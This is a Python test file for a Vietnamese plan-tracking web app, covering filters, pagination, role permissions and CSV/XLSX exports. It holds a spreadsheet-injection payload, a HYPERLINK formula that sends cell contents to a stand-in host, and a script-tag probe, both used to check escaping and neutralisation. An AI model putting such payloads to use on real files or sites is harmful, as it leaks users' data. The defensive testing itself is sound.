"""The web view's Kế hoạch page over HTTP (httpx against the ASGI app): the plans with
their parts counted, one plan's parts under filters kept in the address and applied in
place with htmx, a page at a time; its exports read back (openpyxl, csv); what each role
may see (a head: their agency only, even by address); and the Cơ quan page's requests
for more time."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from bot.db import session_scope
from bot.models import Assignment, ExtensionRequest, Plan, Role, Task
from bot.reports.spreadsheet import attachment, neutral
from bot.web.pages import plans as plans_page
from tests.chat import say
from tests.province import FRIDAY, Province
from tests.web import ADMIN, COORDINATOR, GROUP, HEAD, Web, signed_in

INJECTED = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


def plan_id(web: Web) -> int:
    with Session(web.engine) as s:
        found = s.exec(select(Plan)).one()
        assert found.id is not None
        return found.id


def rows_of(html: str) -> list[str]:
    """The codes of the parts a page's table shows, in order."""
    table = (
        html.split('id="plan-parts"')[1].split("</table>")[0] if 'id="plan-parts"' in html else ""
    )
    return re.findall(r"<td><b>(NV\d+)</b></td>", table)


@pytest.fixture
def more(web: Web, province: Province) -> dict[str, int]:
    """Beside the web fixture's parts (NV1 Sở Y tế overdue, NV2 Sở Y tế + NV3 Sở Tư pháp
    due 31/12, NV4 Sở Tư pháp overdue): a quarter's deadline, an ongoing task, and a task
    whose text a spreadsheet would run as a formula."""
    return {
        "quarter": province.add_task("Quý IV năm 2024", lead="so-tu-phap", text="Tổng kết quý"),
        "ongoing": province.add_task("Thường xuyên", lead="so-noi-vu", text="Theo dõi, đôn đốc"),
        "formula": province.add_task("Trước ngày 10/01/2025", lead="so-y-te", text=INJECTED),
    }


# --- the list of plans --------------------------------------------------------------------


async def test_the_plans_are_listed_with_their_parts_counted(web: Web) -> None:
    with session_scope(web.engine) as s:
        s.exec(select(Plan)).one().title = "SIPAS 2024 <i>bản cuối</i>"
    await signed_in(web, COORDINATOR)
    page = await web.client.get("/ke-hoach")
    assert page.status_code == 200 and "<h1>Kế hoạch <small>(1)</small></h1>" in page.text
    assert 'aria-current="page">Kế hoạch</a>' in page.text and "đang được xây dựng" not in page.text
    row = page.text.split('id="plans"')[1].split("</tr>")[1]
    assert f'<a href="/ke-hoach/{plan_id(web)}">126/KH-UBND</a>' in row
    assert "SIPAS 2024 &lt;i&gt;bản cuối&lt;/i&gt;" in row
    # Four parts, all being done, two of them overdue (Sở Y tế's 30/11, Sở Tư pháp's 15/11).
    assert re.findall(r"<td>([^<]*)</td>", row)[:2] == ["4", "4"]
    assert f'href="/ke-hoach/{plan_id(web)}?qua-han=1">2</a>' in row


async def test_a_head_counts_their_agency_parts_only(web: Web) -> None:
    await signed_in(web, HEAD)
    page = await web.client.get("/ke-hoach")
    row = page.text.split('id="plans"')[1].split("</tr>")[1]
    assert re.findall(r"<td>([^<]*)</td>", row)[:2] == ["2", "2"]  # Sở Y tế's two parts
    assert '?qua-han=1">1</a>' in row and "Số phần việc của Sở Y tế" in page.text


async def test_every_plan_is_listed_and_a_head_sees_those_with_their_parts(
    web: Web, province: Province
) -> None:
    """Three plans: the fixture's, one of Sở Tư pháp's alone, one with no parts yet."""
    first = province.plan_id
    with session_scope(web.engine) as s:
        later = Plan(number="45/KH-UBND", issued_on=date(2024, 9, 1), year=2024, title="PAR")
        empty = Plan(number="7/KH-UBND", issued_on=date(2024, 10, 1), year=2024, title="PCI")
        s.add_all([later, empty])
        s.flush()
        province.plan_id = later.id  # type: ignore[assignment]
    province.add_task("Trước ngày 31/12/2024", lead="so-tu-phap", text="Việc của Sở Tư pháp")
    province.plan_id = first
    await signed_in(web, COORDINATOR)
    listed = re.findall(
        r'<a href="/ke-hoach/\d+">([^<]+)</a>', (await web.client.get("/ke-hoach")).text
    )
    assert listed == ["7/KH-UBND", "45/KH-UBND", "126/KH-UBND"]  # newest first
    await signed_in(web, HEAD)
    listed = re.findall(
        r'<a href="/ke-hoach/\d+">([^<]+)</a>', (await web.client.get("/ke-hoach")).text
    )
    assert listed == ["126/KH-UBND"]  # Sở Y tế has parts in that one alone


# --- one plan -----------------------------------------------------------------------------


async def test_a_plan_shows_each_part_with_the_deadline_as_read_and_task_text_escaped(
    web: Web, more: dict[str, int]
) -> None:
    await signed_in(web, COORDINATOR)
    page = await web.client.get(f"/ke-hoach/{plan_id(web)}")
    assert page.status_code == 200 and "<h1>Kế hoạch 126/KH-UBND" in page.text
    assert rows_of(page.text) == ["NV1", "NV2", "NV3", "NV4", f"NV{more['quarter']}",
                                  f"NV{more['ongoing']}", f"NV{more['formula']}"]  # fmt: skip
    table = page.text.split('id="plan-parts"')[1].split("</table>")[0]
    first = table.split("<tr")[2]
    assert "Công khai thủ tục hành chính &lt;b&gt;mới&lt;/b&gt;" in first  # never markup
    assert "<b>mới</b>" not in page.text
    assert "Sở Y tế<br><small>Chủ trì</small>" in first and "60%" in first
    assert "quá hạn" in first and "30/11/2024" in first
    assert "“Trước ngày 30/11/2024” → Hạn 30/11/2024" in first
    assert "Sở Tư pháp<br><small>Phối hợp</small>" in table.split("<tr")[4]
    assert "“Quý IV năm 2024” → Hạn 31/12/2024 — hết quý IV/2024" in table
    assert "“Thường xuyên” → Thường xuyên (báo cáo hằng quý)" in table
    assert "=HYPERLINK(&#34;http://x.example/?&#34;&amp;A1" in table
    assert "<b>7</b> phần việc" in page.text and "<b>2</b> quá hạn" in page.text


async def test_filters_narrow_the_parts_in_sql_and_stay_in_the_address(
    web: Web, more: dict[str, int]
) -> None:
    await signed_in(web, COORDINATOR)
    url = f"/ke-hoach/{plan_id(web)}"

    async def codes(query: str) -> list[str]:
        answer = await web.client.get(url + query)
        assert answer.status_code == 200, answer.text
        return rows_of(answer.text)

    assert await codes("?co-quan=so-tu-phap") == ["NV3", "NV4", f"NV{more['quarter']}"]
    assert await codes("?qua-han=1") == ["NV1", "NV4"]
    # From Friday 20/12/2024: within 11 days is up to 31/12 included, 10 days stops at 30/12.
    assert await codes("?trong=11") == ["NV2", "NV3", f"NV{more['quarter']}"]
    assert await codes("?trong=10") == []
    assert await codes("?co-quan=so-tu-phap&trong=11") == ["NV3", f"NV{more['quarter']}"]
    assert await codes("?trang-thai=hoan-thanh") == []
    say(web.engine, GROUP, "/xong NV2 đã gửi báo cáo", FRIDAY)
    assert await codes("?trang-thai=hoan-thanh") == ["NV2"]
    assert "NV2" not in await codes("?trang-thai=dang-thuc-hien")
    assert "NV2" not in await codes("?trong=11")  # done: no longer due
    page = (
        await web.client.get(url + "?co-quan=so-tu-phap&trang-thai=dang-thuc-hien&qua-han=1")
    ).text
    assert rows_of(page) == ["NV4"]
    form = page.split('id="filters"')[1].split("</form>")[0]
    assert '<option value="so-tu-phap" selected>Sở Tư pháp</option>' in form
    assert '<option value="dang-thuc-hien" selected>' in form and 'value="1" checked' in form
    # The exports carry the same filter.
    assert (
        f'href="{url}/xuat.xlsx?co-quan=so-tu-phap&amp;trang-thai=dang-thuc-hien&amp;qua-han=1"'
        in page
    )


async def test_what_the_filter_cannot_read_is_said_and_left_out(web: Web) -> None:
    await signed_in(web, COORDINATOR)
    page = await web.client.get(
        f"/ke-hoach/{plan_id(web)}?trong=m%E1%BB%99t&trang-thai=xong&co-quan=khong-co"
    )
    assert page.status_code == 200
    assert (
        "Số ngày “một” (ô Đến hạn trong) không hợp lệ: hãy ghi một số ngày từ 0 đến 3660"
        in page.text
    )
    assert "Không có trạng thái “xong” (ô Trạng thái)" in page.text
    assert "Không có cơ quan có mã “khong-co” (ô Cơ quan)" in page.text
    assert rows_of(page.text) == ["NV1", "NV2", "NV3", "NV4"]  # nothing lost: every part
    assert "Traceback" not in page.text
    # What the address says is shown as text, never as markup.
    reflected = await web.client.get(
        f"/ke-hoach/{plan_id(web)}?co-quan=<script>x</script>&trong=<b>"
    )
    assert (
        "<script>x" not in reflected.text and "“&lt;script&gt;x&lt;/script&gt;”" in reflected.text
    )
    assert "“&lt;b&gt;”" in reflected.text
    unknown = await web.client.get("/ke-hoach/999")
    assert unknown.status_code == 404 and "Không có kế hoạch này" in unknown.text
    assert (await web.client.get("/ke-hoach/abc")).status_code == 404


async def test_htmx_gets_the_table_alone_and_history_the_whole_page(web: Web) -> None:
    await signed_in(web, COORDINATOR)
    url = f"/ke-hoach/{plan_id(web)}?qua-han=1"
    part = await web.client.get(url, headers={"HX-Request": "true"})
    assert part.status_code == 200 and part.text.lstrip().startswith('<div id="parts">')
    assert "<html" not in part.text and 'id="filters"' not in part.text
    assert rows_of(part.text) == ["NV1", "NV4"] and "HX-Request" in part.headers["vary"]
    full = await web.client.get(url)
    assert (
        "<html" in full.text
        and 'hx-get="/ke-hoach/' in full.text
        and 'hx-push-url="true"' in full.text
    )
    back = await web.client.get(
        url, headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
    )
    assert "<html" in back.text


async def test_a_long_plan_is_shown_a_page_at_a_time(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(plans_page, "PAGE_SIZE", 3)
    await signed_in(web, COORDINATOR)
    url = f"/ke-hoach/{plan_id(web)}"
    first = (await web.client.get(url)).text
    assert rows_of(first) == ["NV1", "NV2", "NV3"] and "Phần việc 1–3 trong 4." in first
    assert f'href="{url}?trang=2" hx-get="{url}?trang=2"' in first
    second = (await web.client.get(url + "?trang=2", headers={"HX-Request": "true"})).text
    assert rows_of(second) == ["NV4"] and "Phần việc 4–4 trong 4." in second
    assert rows_of((await web.client.get(url + "?trang=99")).text) == ["NV4"]  # the last one
    assert rows_of((await web.client.get(url + "?trang=x")).text) == ["NV1", "NV2", "NV3"]
    # A filter is kept from page to page.
    both = (await web.client.get(url + "?qua-han=1&trang=1")).text
    assert rows_of(both) == ["NV1", "NV4"] and "trang=2" not in both


async def test_a_plan_of_many_parts_reads_one_page_of_them(web: Web, province: Province) -> None:
    """Parts written straight to the database (a register's size): the page counts them
    all and shows :data:`PAGE_SIZE`, the last page the rest."""
    with session_scope(web.engine) as s:
        task = s.exec(select(Task)).first()
        assert task is not None
        for n in range(1, 431):
            extra = Task(plan_id=task.plan_id, key=f"X.{n}", position=100 + n, text=f"Việc {n}",
                         deadline_text="", deadline_kind="unspecified")  # fmt: skip
            s.add(extra)
            s.flush()
            agency = list(province.agencies.values())[n % 3]
            s.add(Assignment(task_id=extra.id, agency_id=agency, role=Role.LEAD))  # type: ignore[arg-type]
    await signed_in(web, COORDINATOR)
    url = f"/ke-hoach/{plan_id(web)}"
    page = (await web.client.get(url)).text
    assert len(rows_of(page)) == 100 and "Phần việc 1–100 trong 434." in page
    assert "Cuối (5)</a>" in page
    last = (await web.client.get(url + "?trang=5")).text
    assert len(rows_of(last)) == 34 and "Việc 430" in last


# --- permissions --------------------------------------------------------------------------


async def test_a_head_sees_their_agency_parts_only_even_by_address(web: Web) -> None:
    await signed_in(web, HEAD)
    url = f"/ke-hoach/{plan_id(web)}"
    own = await web.client.get(url)
    assert own.status_code == 200 and rows_of(own.text) == ["NV1", "NV2"]
    assert "Rà soát quy trình nội bộ" not in own.text and "Sở Tư pháp" not in own.text
    assert 'name="co-quan"' not in own.text and "Cơ quan: <b>Sở Y tế</b>" in own.text
    assert rows_of((await web.client.get(url + "?co-quan=so-y-te")).text) == ["NV1", "NV2"]
    for path in (url, f"{url}/xuat.csv", f"{url}/xuat.xlsx"):
        for headers in ({}, {"HX-Request": "true"}):
            other = await web.client.get(path + "?co-quan=so-tu-phap", headers=headers)
            assert other.status_code == 403, path
            assert "chỉ xem được phần việc của cơ quan mình" in other.text
            assert "Rà soát quy trình nội bộ" not in other.text
    exported = await web.client.get(f"{url}/xuat.csv")
    codes = [row[0] for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig")))]
    assert codes == ["Mã", "NV1", "NV2"]


async def test_the_plan_pages_need_a_session(web: Web) -> None:
    url = f"/ke-hoach/{plan_id(web)}"
    for path in ("/ke-hoach", url, f"{url}/xuat.csv", f"{url}/xuat.xlsx"):
        refused = await web.client.get(path)
        assert refused.status_code == 401 and "Chưa đăng nhập" in refused.text, path
        assert "Công khai thủ tục" not in refused.text


async def test_the_plan_pages_take_no_post(web: Web) -> None:
    await signed_in(web, ADMIN)
    answer = await web.client.post(f"/ke-hoach/{plan_id(web)}", data={})
    assert answer.status_code == 405


async def test_an_admin_sees_every_agency(web: Web) -> None:
    await signed_in(web, ADMIN)
    page = await web.client.get(f"/ke-hoach/{plan_id(web)}")
    assert rows_of(page.text) == ["NV1", "NV2", "NV3", "NV4"]
    assert '<option value="so-tu-phap">Sở Tư pháp</option>' in page.text


# --- exports ------------------------------------------------------------------------------


async def test_the_xlsx_export_reads_back_with_the_filter_and_no_formula(
    web: Web, more: dict[str, int]
) -> None:
    await signed_in(web, COORDINATOR)
    answer = await web.client.get(f"/ke-hoach/{plan_id(web)}/xuat.xlsx?co-quan=so-y-te")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    disposition = answer.headers["content-disposition"]
    assert disposition == ('attachment; filename="ke-hoach-126-kh-ubnd-so-y-te.xlsx"; '
                           "filename*=UTF-8''K%E1%BA%BF%20ho%E1%BA%A1ch%20126-KH-UBND%20-%20S%E1%BB%9F%20Y%20t%E1%BA%BF.xlsx")  # fmt: skip
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None and sheet.title == "Phần việc"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Mã", "Kế hoạch", "Mục", "Nhiệm vụ", "Chỉ số/nội dung", "Cơ quan", "Vai trò",
                       "Trạng thái", "Tiến độ (%)", "Quá hạn", "Thời hạn (theo kế hoạch)",
                       "Thời hạn", "Hạn")  # fmt: skip
    assert [r[0] for r in rows[1:]] == ["NV1", "NV2", f"NV{more['formula']}"]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert (
        first["Nhiệm vụ"] == "Công khai thủ tục hành chính <b>mới</b>"
    )  # as typed: a file, not a page
    assert (first["Cơ quan"], first["Vai trò"], first["Trạng thái"]) == (
        "Sở Y tế",
        "Chủ trì",
        "Đang thực hiện",
    )
    assert (first["Tiến độ (%)"], first["Quá hạn"]) == (60, "có")
    assert first["Hạn"].date().isoformat() == "2024-11-30"  # a date cell, not text
    assert first["Kế hoạch"] == "126/KH-UBND" and first["Mục"] == "1"
    assert first["Thời hạn (theo kế hoạch)"] == "Trước ngày 30/11/2024"
    assert first["Thời hạn"] == "Hạn 30/11/2024 — ngày 30/11/2024"
    injected = sheet.cell(row=4, column=4)
    assert (injected.value, injected.data_type, injected.quotePrefix) == (INJECTED, "s", True)


async def test_the_csv_export_has_a_bom_vietnamese_headers_and_no_formula(
    web: Web, more: dict[str, int]
) -> None:
    await signed_in(web, COORDINATOR)
    answer = await web.client.get(f"/ke-hoach/{plan_id(web)}/xuat.csv?qua-han=1")
    assert answer.status_code == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        "filename*=UTF-8''K%E1%BA%BF%20ho%E1%BA%A1ch%20126-KH-UBND.csv"
        in answer.headers["content-disposition"]
    )
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Mã", "Kế hoạch", "Mục", "Nhiệm vụ"] and rows[0][-1] == "Hạn"
    assert [r[0] for r in rows[1:]] == ["NV1", "NV4"]
    assert rows[1][-1] == "30/11/2024" and rows[2][5] == "Sở Tư pháp" and rows[1][9] == "có"
    everything = await web.client.get(f"/ke-hoach/{plan_id(web)}/xuat.csv")
    read = list(csv.reader(io.StringIO(everything.content.decode("utf-8-sig"))))
    assert [r[3] for r in read if r[0] == f"NV{more['formula']}"] == [f"'{INJECTED}"]


def test_formula_starts_are_neutralised_and_file_names_made_safe() -> None:
    for risky in ("=1+1", "+84 912", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutral(risky) == f"'{risky}"
    for plain in ("Rà soát", "1-2", "", "'=x"):
        assert neutral(plain) == plain
    header = attachment('Kế hoạch 12/KH:"UBND"\r\n.csv')
    assert header.startswith('attachment; filename="ke-hoach-12-kh-ubnd-.csv"; filename*=UTF-8')
    assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*")[1]
    assert attachment("***") == "attachment; filename=\"bang\"; filename*=UTF-8''bang"


# --- the Cơ quan page's requests for more time --------------------------------------------


async def test_the_agency_page_lists_its_extension_requests_and_their_answers(web: Web) -> None:
    say(web.engine, GROUP, "/giahan NV1 15/01/2025 chờ <i>số liệu</i> các huyện", FRIDAY)
    say(web.engine, GROUP, "/giahan NV2 20/01/2025 chờ ý kiến Bộ", FRIDAY + timedelta(hours=1))
    with Session(web.engine) as s:
        first = s.exec(select(ExtensionRequest).where(ExtensionRequest.assignment_id == 1)).one()
    say(web.engine, HEAD, f"/duyet {first.id}", FRIDAY + timedelta(hours=2))
    await signed_in(web, HEAD)
    page = (await web.client.get("/co-quan/so-y-te")).text
    table = page.split('id="extensions"')[1].split("</table>")[0]
    newest, older = table.split("<tr>")[2:4]
    assert "NV2" in newest and "20/01/2025" in newest and "chờ ý kiến Bộ" in newest
    assert "Chờ Thủ trưởng quyết định" in newest and "09:00 20/12/2024" in newest
    assert "Nguyễn Văn An (chat thử)" in newest  # who, as people read it
    assert "NV1" in older and "15/01/2025" in older and "Đồng ý" in older
    assert "Trần Thị Bình (chat thử), 10:00 20/12/2024" in older
    assert "chờ &lt;i&gt;số liệu&lt;/i&gt;" in older  # escaped, never markup
    assert "Xin gia hạn <small>(2)</small>" in page
    # Sở Tư pháp asked for nothing; a head of Sở Y tế cannot look there anyway.
    await signed_in(web, COORDINATOR)
    justice = (await web.client.get("/co-quan/so-tu-phap")).text
    assert "Chưa có đề nghị gia hạn nào." in justice and "chờ ý kiến Bộ" not in justice


async def test_a_head_opening_a_plan_without_their_parts_sees_it_empty(
    web: Web, province: Province
) -> None:
    with session_scope(web.engine) as s:
        other = Plan(number="45/KH-UBND", issued_on=date(2024, 9, 1), year=2024, title="PAR")
        s.add(other)
        s.flush()
        other_id = other.id
    await signed_in(web, HEAD)
    page = await web.client.get(f"/ke-hoach/{other_id}")
    assert page.status_code == 200 and "45/KH-UBND" in page.text
    assert rows_of(page.text) == []
